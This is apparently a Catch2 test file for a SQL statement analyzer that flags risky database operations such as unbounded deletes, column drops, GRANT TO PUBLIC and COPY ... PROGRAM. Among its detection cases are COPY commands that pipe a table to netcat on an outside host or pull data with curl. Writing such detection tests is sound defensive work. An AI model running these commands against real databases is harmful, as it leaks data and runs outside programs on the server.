// SPDX-License-Identifier: Apache-2.0
//
// sql/statement_facts.h and Analysis::has_where, through the Analyzer so that
// PostgreSQL DDL takes the grammar's path (libpg_query) as it does in the agent.
#include <catch2/catch.hpp>
#include <initializer_list>
#include <string>

#include "sql/analyzer.h"

namespace {

using dbwarden::sql::Analysis;
using dbwarden::sql::Analyzer;
using dbwarden::sql::Dialect;

constexpr Dialect kPg = Dialect::kPostgresql;
constexpr Dialect kMy = Dialect::kMysql;

Analysis analyze(Dialect d, const std::string& sql) {
  Analyzer analyzer;
  return analyzer.analyze(d, sql);
}

// A statement and whether one boolean fact holds for it.
struct FlagCase {
  Dialect dialect;
  const char* sql;
  bool expected;
};

void check_flag(bool Analysis::*flag, std::initializer_list<FlagCase> cases) {
  for (const FlagCase& c : cases) {
    INFO(c.sql);
    CHECK(analyze(c.dialect, c.sql).*flag == c.expected);
  }
}

}  // namespace

TEST_CASE("statement facts: object type of CREATE/ALTER/DROP/RENAME/TRUNCATE", "[sql][facts]") {
  struct Case {
    Dialect dialect;
    const char* sql;
    const char* operation;
    const char* object_type;
  };
  const Case cases[] = {
      {kPg, "DROP TABLE accounts", "DROP", "TABLE"},
      {kPg, "drop table if exists public.accounts, b cascade", "DROP", "TABLE"},
      {kMy, "DROP TEMPORARY TABLE IF EXISTS tmp_x", "DROP", "TABLE"},
      {kMy, "DROP TABLES a, b", "DROP", "TABLE"},
      {kMy, "RENAME TABLES a TO b", "RENAME", "TABLE"},
      {kPg, "TRUNCATE accounts", "TRUNCATE", "TABLE"},
      {kMy, "TRUNCATE TABLE accounts", "TRUNCATE", "TABLE"},
      {kPg, "CREATE OR REPLACE TEMP VIEW v AS SELECT 1", "CREATE", "VIEW"},
      {kPg, "CREATE UNIQUE INDEX CONCURRENTLY i ON t (a)", "CREATE", "INDEX"},
      {kPg, "CREATE UNLOGGED TABLE t (a int)", "CREATE", "TABLE"},
      {kPg, "DROP MATERIALIZED VIEW mv", "DROP", "MATERIALIZED VIEW"},
      {kPg, "CREATE ROLE reporting LOGIN", "CREATE", "ROLE"},
      {kPg, "ALTER ROLE bob WITH PASSWORD 'x'", "ALTER", "ROLE"},
      {kPg, "ALTER USER bob VALID UNTIL 'infinity'", "ALTER", "USER"},
      {kPg, "DROP GROUP staff", "DROP", "GROUP"},
      {kPg, "CREATE USER MAPPING FOR bob SERVER s", "CREATE", "USER MAPPING"},
      {kPg, "DROP USER MAPPING IF EXISTS FOR bob SERVER s", "DROP", "USER MAPPING"},
      {kPg, "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", "ALTER",
       "DEFAULT PRIVILEGES"},
      {kPg, "CREATE TEXT SEARCH CONFIGURATION c (COPY = english)", "CREATE",
       "TEXT SEARCH CONFIGURATION"},
      {kMy, "CREATE USER mapping@localhost", "CREATE", "USER"},
      {kMy, "CREATE USER 'app'@'%' IDENTIFIED BY 'x'", "CREATE", "USER"},
      {kMy, "CREATE OR REPLACE USER app", "CREATE", "USER"},
      {kMy, "RENAME USER a TO b", "RENAME", "USER"},
      {kMy,
       "CREATE DEFINER=`root`@`localhost` TRIGGER trg BEFORE INSERT ON t FOR EACH ROW SET @x=1",
       "CREATE", "TRIGGER"},
      {kMy, "CREATE ALGORITHM=MERGE DEFINER=CURRENT_USER SQL SECURITY INVOKER VIEW v AS SELECT 1",
       "CREATE", "VIEW"},
      {kMy, "ALTER IGNORE TABLE t ADD UNIQUE (a)", "ALTER", "TABLE"},
      {kMy, "/*!40101 DROP TABLE t */", "DROP", "TABLE"},
      {kPg, "SELECT * FROM t", "SELECT", ""},
      {kPg, "DELETE FROM t", "DELETE", ""},
  };
  for (const Case& c : cases) {
    INFO(c.sql);
    const Analysis a = analyze(c.dialect, c.sql);
    CHECK(a.operation == c.operation);
    CHECK(a.object_type == c.object_type);
  }
}

TEST_CASE("statement facts: has_where, from tokens and from the grammar", "[sql][facts]") {
  for (Dialect d : {kPg, kMy}) {
    INFO((d == kPg ? "postgresql" : "mysql"));
    CHECK(analyze(d, "DELETE FROM t WHERE id = 1").has_where);
    CHECK_FALSE(analyze(d, "DELETE FROM t").has_where);
    CHECK(analyze(d, "UPDATE t SET a = 1 WHERE id IN (SELECT id FROM u)").has_where);
    CHECK_FALSE(analyze(d, "UPDATE t SET a = (SELECT max(b) FROM u WHERE u.k = 1)").has_where);
    CHECK_FALSE(analyze(d, "DELETE FROM t LIMIT 10").has_where == true);
    CHECK_FALSE(analyze(d, "SELECT * FROM t").has_where);
    CHECK(analyze(d, "SELECT * FROM t WHERE a = 1").has_where);
  }
  // Grammar path: a subquery sends the text to libpg_query (sql/certainty.h).
  const Analysis parsed = analyze(kPg, "DELETE FROM t USING (SELECT 1 AS id) s WHERE t.id = s.id");
  CHECK(parsed.source == dbwarden::sql::AnalysisSource::kParser);
  CHECK(parsed.has_where);
  const Analysis cte = analyze(kPg, "WITH x AS (SELECT id FROM u WHERE k = 1) DELETE FROM t");
  CHECK(cte.source == dbwarden::sql::AnalysisSource::kParser);
  CHECK_FALSE(cte.has_where);
  CHECK(cte.unbounded_write);
  // Every statement of a text must have one.
  CHECK_FALSE(analyze(kMy, "DELETE FROM t WHERE a = 1; DELETE FROM u").has_where);
  CHECK(analyze(kMy, "DELETE FROM t WHERE a = 1; DELETE FROM u WHERE b = 2").has_where);
}

TEST_CASE("statement facts: ALTER TABLE ... DROP", "[sql][facts]") {
  check_flag(
      &Analysis::alter_table_drop,
      {
          {kPg, "ALTER TABLE accounts DROP COLUMN balance", true},
          {kPg, "ALTER TABLE IF EXISTS ONLY public.accounts DROP COLUMN IF EXISTS b CASCADE", true},
          {kPg, "ALTER TABLE t DROP CONSTRAINT t_pkey", true},
          {kPg, "ALTER TABLE t ADD COLUMN c int, DROP COLUMN d", true},
          {kPg, "ALTER TABLE t ALTER COLUMN c DROP DEFAULT, DROP COLUMN d", true},
          {kPg, "ALTER TABLE \"Weird Name\" DROP c", true},
          {kMy, "ALTER TABLE orders DROP COLUMN note", true},
          {kMy, "ALTER TABLE orders DROP note", true},
          {kMy, "ALTER TABLE shop.orders DROP INDEX idx_a, ALGORITHM=INPLACE", true},
          {kMy, "ALTER TABLE orders DROP PRIMARY KEY", true},
          {kMy, "ALTER TABLE orders DROP FOREIGN KEY fk_c", true},
          {kMy, "ALTER TABLE orders DROP PARTITION p2019", true},
          {kMy, "ALTER TABLE `user` DROP `name`", true},
          // Near misses.
          {kPg, "ALTER TABLE t ADD COLUMN c int", false},
          {kPg, "ALTER TABLE t ALTER COLUMN c DROP DEFAULT", false},
          {kPg, "ALTER TABLE t ALTER COLUMN c DROP NOT NULL", false},
          {kPg, "ALTER TABLE t ADD CONSTRAINT c CHECK (a IN (1, 2)), ALTER b DROP DEFAULT", false},
          {kPg, "ALTER TABLE drop_log RENAME TO dropped", false},
          {kPg, "ALTER INDEX i RENAME TO j", false},
          {kPg, "ALTER VIEW v ALTER COLUMN c DROP DEFAULT", false},
          {kMy, "ALTER TABLE orders ADD COLUMN (a int, b int)", false},
          {kMy, "ALTER TABLE orders ALTER COLUMN c DROP DEFAULT", false},
      });
}

TEST_CASE("statement facts: GRANT ... TO PUBLIC", "[sql][facts]") {
  check_flag(
      &Analysis::grant_to_public,
      {
          {kPg, "GRANT SELECT ON accounts TO PUBLIC", true},
          {kPg, "grant all privileges on all tables in schema public to public", true},
          {kPg, "GRANT SELECT (a, b) ON t TO bob, PUBLIC WITH GRANT OPTION", true},
          {kPg, "GRANT USAGE ON SCHEMA s TO GROUP public", true},
          {kPg, "GRANT SELECT ON t TO \"public\"", true},
          {kPg, "GRANT EXECUTE ON FUNCTION f(int, text) TO public", true},
          {kPg, "ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO PUBLIC", true},
          {kMy, "GRANT SELECT ON shop.* TO PUBLIC", true},
          // Near misses: a role, the schema called public, a quoted "PUBLIC" role, REVOKE.
          {kPg, "GRANT SELECT ON public.accounts TO reporting", false},
          {kPg, "GRANT reporting TO bob", false},
          {kPg, "GRANT SELECT ON t TO \"PUBLIC\"", false},
          {kPg, "REVOKE ALL ON t FROM PUBLIC", false},
          {kPg, "ALTER DEFAULT PRIVILEGES REVOKE SELECT ON TABLES FROM PUBLIC", false},
          {kMy, "GRANT SELECT ON shop.* TO 'app'@'%'", false},
          {kMy, "GRANT SELECT ON shop.* TO 'public'@'%'", false},
      });
}

TEST_CASE("statement facts: COPY ... PROGRAM", "[sql][facts]") {
  CHECK(analyze(kPg, "COPY accounts TO PROGRAM 'gzip > /tmp/a.gz'").copy_program);
  CHECK(analyze(kPg, "copy (select * from accounts) to program 'nc host 9'").copy_program);
  CHECK(analyze(kPg, "COPY t FROM PROGRAM 'curl http://x' WITH (FORMAT csv)").copy_program);
  CHECK_FALSE(analyze(kPg, "COPY accounts TO STDOUT WITH (FORMAT csv)").copy_program);
  CHECK_FALSE(analyze(kPg, "COPY accounts FROM STDIN").copy_program);
  CHECK_FALSE(analyze(kPg, "COPY program TO STDOUT").copy_program);
  CHECK_FALSE(analyze(kPg, "COPY t TO '/tmp/program'").copy_program);
  CHECK_FALSE(analyze(kPg, "SELECT 'COPY t TO PROGRAM x'").copy_program);
}
